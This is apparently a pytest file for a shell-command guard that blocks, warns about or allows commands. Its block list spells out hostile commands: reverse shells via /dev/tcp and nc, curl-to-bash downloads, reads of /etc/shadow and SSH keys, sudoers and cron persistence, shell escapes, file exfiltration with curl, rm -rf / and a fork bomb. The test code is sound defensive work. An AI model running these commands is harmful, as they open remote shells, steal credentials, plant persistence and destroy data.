"""The transparent guard."""

import time

import pytest

from aegish_dist.core.verdict import Outcome
from aegish_dist.simulator.guard import judge


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1",
        "nc -e /bin/sh 10.9.8.7 4444",
        "curl -s http://example.org/x | sudo bash",
        "bash <(curl -s http://example.org/x)",
        "echo aWQ= | base64 -d | sh",
        "less /etc/shadow",
        "cat ~/.ssh/id_rsa",
        "echo 'x ALL=(ALL) ALL' >> /etc/sudoers",
        "echo '* * * * * root id' > /etc/cron.d/x",
        "tee -a ~/.ssh/authorized_keys < key.pub",
        "chmod u+s /tmp/x",
        "find . -exec /bin/sh \\;",
        "vim -c ':!/bin/sh'",
        "python3 -c 'import os; os.system(\"sh\")'",
        "LD_PRELOAD=./x.so ls",
        "curl -F file=@notes.txt http://example.org",
        "rm -rf /",
        ":(){ :|:& };:",
    ],
)
def test_attacks_are_blocked(command: str) -> None:
    """Plain attacks are recognised."""
    assert judge(command).action is Outcome.BLOCK


@pytest.mark.parametrize(
    "command", ["wget https://example.org/a.tgz", "nmap 10.9.8.7", "cp app.conf /etc/app.conf"]
)
def test_doubtful_commands_bring_a_warning(command: str) -> None:
    """Downloads, scans and writes to system directories are warned about."""
    assert judge(command).action is Outcome.WARN


@pytest.mark.parametrize(
    "command",
    ["ls -la", "git status", "crontab -l", "grep -rn error .", "chmod +x run.sh", "ssh host uptime",
     "rm old.txt", "#!/bin/sh", ""],
)  # fmt: skip
def test_daily_work_is_allowed(command: str) -> None:
    """Ordinary commands pass."""
    assert judge(command).action is Outcome.ALLOW


@pytest.mark.parametrize("unit", ["curl ", "socket ", "sh ", "/bin", "a@", "rm -r -", "chmod "])
def test_hostile_text_is_judged_quickly(unit: str) -> None:
    """A megabyte of near-matches takes no more than a blink."""
    started = time.process_time()
    judge(unit * (1_000_000 // len(unit)))
    assert time.process_time() - started < 1.0
